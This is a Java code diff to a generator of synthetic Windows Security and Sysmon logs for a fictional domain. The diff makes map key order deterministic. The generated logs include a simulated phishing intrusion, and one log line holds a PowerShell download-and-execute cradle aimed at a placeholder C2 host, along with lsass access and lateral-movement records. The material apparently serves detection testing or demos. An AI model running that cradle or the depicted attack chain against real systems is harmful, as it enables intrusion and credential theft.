@@ -103,52 +103,52 @@ public final class DemoOrganization {
             for (int i = 0; i < logons; i++) {
                 String user = pick(users);
                 String host = workstationOf(user);
-                out.add(security(time.plusSeconds(i), record++, 4624, "DC01", Map.of("TargetUserName", user,
+                out.add(security(time.plusSeconds(i), record++, 4624, "DC01", ordered("TargetUserName", user,
                         "TargetDomainName", DOMAIN, "LogonType", "3", "IpAddress", addressOf(host),
                         "WorkstationName", host, "LogonProcessName", "Kerberos", "AuthenticationPackageName", "Kerberos")));
             }
             if (random.nextInt(10) == 0) {
                 String user = pick(users);
-                out.add(security(time, record++, 4625, "DC01", Map.of("TargetUserName", user, "TargetDomainName",
+                out.add(security(time, record++, 4625, "DC01", ordered("TargetUserName", user, "TargetDomainName",
                         DOMAIN, "LogonType", "3", "IpAddress", addressOf(workstationOf(user)), "Status", "0xc000006d",
                         "SubStatus", "0xc000006a", "FailureReason", "%%2313")));
             }
             if (random.nextInt(4) == 0) {
                 String user = pick(users);
-                out.add(security(time, record++, 4688, workstationOf(user), Map.of("SubjectUserName", user,
+                out.add(security(time, record++, 4688, workstationOf(user), ordered("SubjectUserName", user,
                         "SubjectDomainName", DOMAIN, "NewProcessName", pick(COMMON_PROCESSES),
                         "ParentProcessName", "C:\\Windows\\explorer.exe", "CommandLine", "", "TokenElevationType", "%%1938")));
             }
         }
         // Lateral movement: the phished user's credentials used from WS007 against the file server.
         ZonedDateTime lateral = attackStart(start).plusMinutes(22);
-        out.add(security(lateral, record++, 4624, "FS01", Map.of("TargetUserName", "svc_backup", "TargetDomainName",
+        out.add(security(lateral, record++, 4624, "FS01", ordered("TargetUserName", "svc_backup", "TargetDomainName",
                 DOMAIN, "LogonType", "3", "IpAddress", addressOf(PHISHED_HOST), "WorkstationName", PHISHED_HOST,
                 "LogonProcessName", "NtLmSsp", "AuthenticationPackageName", "NTLM")));
-        out.add(security(lateral.plusSeconds(5), record++, 5140, "FS01", Map.of("SubjectUserName", "svc_backup",
+        out.add(security(lateral.plusSeconds(5), record++, 5140, "FS01", ordered("SubjectUserName", "svc_backup",
                 "SubjectDomainName", DOMAIN, "IpAddress", addressOf(PHISHED_HOST), "ShareName", "\\\\*\\ADMIN$",
                 "ObjectType", "File")));
-        out.add(security(lateral.plusSeconds(9), record, 7045, "FS01", Map.of("ServiceName", "kfupd",
+        out.add(security(lateral.plusSeconds(9), record, 7045, "FS01", ordered("ServiceName", "kfupd",
                 "ImagePath", "%SystemRoot%\\kfupd.exe", "ServiceType", "user mode service", "StartType", "demand start",
                 "AccountName", "LocalSystem")));
         return out;
     }
 
-    private String security(ZonedDateTime time, long record, int eventId, String computer, Map<String, String> data) {
+    private String security(ZonedDateTime time, long record, int eventId, String computer, Map<String, ?> data) {
         Map<String, Object> system = new LinkedHashMap<>();
-        system.put("Provider", Map.of("#attributes", Map.of("Name", eventId == 7045 ? "Service Control Manager"
+        system.put("Provider", ordered("#attributes", ordered("Name", eventId == 7045 ? "Service Control Manager"
                 : "Microsoft-Windows-Security-Auditing", "Guid", "{54849625-5478-4994-a5ba-3e3b0328c30d}")));
         system.put("EventID", eventId);
         system.put("Level", 0);
         system.put("Keywords", eventId == 4625 ? "0x8010000000000000" : "0x8020000000000000");
-        system.put("TimeCreated", Map.of("#attributes", Map.of("SystemTime", iso(time))));
+        system.put("TimeCreated", ordered("#attributes", ordered("SystemTime", iso(time))));
         system.put("EventRecordID", record);
         system.put("Channel", eventId == 7045 ? "System" : "Security");
         system.put("Computer", computer + ".kestrel.local");
         Map<String, Object> event = new LinkedHashMap<>();
         event.put("System", system);
         event.put("EventData", new LinkedHashMap<>(data));
-        return JSON.writeValueAsString(Map.of("Event", event));
+        return JSON.writeValueAsString(ordered("Event", event));
     }
 
     // --- Sysmon (Winlogbeat 7 shape) ---------------------------------------------------------------------------
@@ -160,17 +160,17 @@ public final class DemoOrganization {
             ZonedDateTime time = start.plusMinutes(minute).plusSeconds(random.nextInt(180));
             String host = pick(workstations);
             String image = pick(COMMON_PROCESSES);
-            out.add(sysmon(time, record++, 1, host, Map.of("Image", image, "CommandLine", "\"" + image + "\"",
+            out.add(sysmon(time, record++, 1, host, ordered("Image", image, "CommandLine", "\"" + image + "\"",
                     "ParentImage", "C:\\Windows\\explorer.exe", "User", DOMAIN + "\\" + pick(users),
                     "Hashes", "SHA256=" + hex(64), "IntegrityLevel", "Medium")));
             if (random.nextInt(2) == 0) {
-                out.add(sysmon(time.plusSeconds(1), record++, 3, host, Map.of("Image", image, "Protocol", "tcp",
+                out.add(sysmon(time.plusSeconds(1), record++, 3, host, ordered("Image", image, "Protocol", "tcp",
                         "SourceIp", addressOf(host), "SourcePort", String.valueOf(49_152 + random.nextInt(10_000)),
                         "DestinationIp", "52.96." + random.nextInt(255) + "." + random.nextInt(255),
                         "DestinationPort", "443", "User", DOMAIN + "\\" + pick(users))));
             }
             if (random.nextInt(3) == 0) {
-                out.add(sysmon(time.plusSeconds(2), record++, 22, host, Map.of("Image", image,
+                out.add(sysmon(time.plusSeconds(2), record++, 22, host, ordered("Image", image,
                         "QueryName", pick(new String[] {"outlook.office365.com", "www.google.com", "teams.microsoft.com",
                                 "update.kestrel.local", "login.microsoftonline.com"}), "QueryStatus", "0")));
             }
@@ -179,29 +179,29 @@ public final class DemoOrganization {
         String victim = DOMAIN + "\\" + userOfWorkstation(PHISHED_HOST);
         String script = "IEX (New-Object Net.WebClient).DownloadString('https://" + C2_ADDRESS + "/a')";
         String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
-        out.add(sysmon(attack, record++, 1, PHISHED_HOST, Map.of(
+        out.add(sysmon(attack, record++, 1, PHISHED_HOST, ordered(
                 "Image", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                 "CommandLine", "\"WINWORD.EXE\" /n \"C:\\Users\\" + userOfWorkstation(PHISHED_HOST)
                         + "\\Downloads\\Invoice_4471.docm\"",
                 "ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                 "User", victim, "Hashes", "SHA256=" + hex(64), "IntegrityLevel", "Medium")));
-        out.add(sysmon(attack.plusSeconds(40), record++, 1, PHISHED_HOST, Map.of(
+        out.add(sysmon(attack.plusSeconds(40), record++, 1, PHISHED_HOST, ordered(
                 "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "CommandLine", "powershell.exe -nop -w hidden -EncodedCommand " + encoded,
                 "ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                 "User", victim, "Hashes", "SHA256=" + hex(64), "IntegrityLevel", "Medium")));
-        out.add(sysmon(attack.plusSeconds(43), record++, 3, PHISHED_HOST, Map.of(
+        out.add(sysmon(attack.plusSeconds(43), record++, 3, PHISHED_HOST, ordered(
                 "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Protocol", "tcp",
                 "SourceIp", addressOf(PHISHED_HOST), "SourcePort", "51234", "DestinationIp", C2_ADDRESS,
                 "DestinationPort", "443", "User", victim)));
-        out.add(sysmon(attack.plusMinutes(15), record++, 10, PHISHED_HOST, Map.of(
+        out.add(sysmon(attack.plusMinutes(15), record++, 10, PHISHED_HOST, ordered(
                 "SourceImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "TargetImage", "C:\\Windows\\System32\\lsass.exe", "GrantedAccess", "0x1010",
                 "SourceUser", victim, "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|UNKNOWN(00007ffb1c2a1a2b)")));
         return out;
     }
 
-    private String sysmon(ZonedDateTime time, long record, int eventId, String host, Map<String, String> data) {
+    private String sysmon(ZonedDateTime time, long record, int eventId, String host, Map<String, ?> data) {
         Map<String, Object> winlog = new LinkedHashMap<>();
         winlog.put("channel", "Microsoft-Windows-Sysmon/Operational");
         winlog.put("event_id", eventId);
@@ -214,7 +214,7 @@ public final class DemoOrganization {
         winlog.put("event_data", eventData);
         Map<String, Object> event = new LinkedHashMap<>();
         event.put("@timestamp", iso(time));
-        event.put("agent", Map.of("type", "winlogbeat", "version", "8.15.0"));
+        event.put("agent", ordered("type", "winlogbeat", "version", "8.15.0"));
         event.put("winlog", winlog);
         return JSON.writeValueAsString(event);
     }
@@ -337,6 +337,18 @@ public final class DemoOrganization {
             s.append(Character.forDigit(random.nextInt(16), 16));
         }
         return s.toString().toUpperCase(Locale.ROOT);
+    }
+
+    /**
+     * A map that keeps its keys in the order given. {@code Map.of} iterates in an order that changes from one JVM to
+     * the next, which would change the generated records' bytes, and so their event ids, on every run.
+     */
+    private static Map<String, Object> ordered(Object... keysAndValues) {
+        Map<String, Object> map = new LinkedHashMap<>();
+        for (int i = 0; i < keysAndValues.length; i += 2) {
+            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
+        }
+        return map;
     }
 
     private static String iso(ZonedDateTime time) {
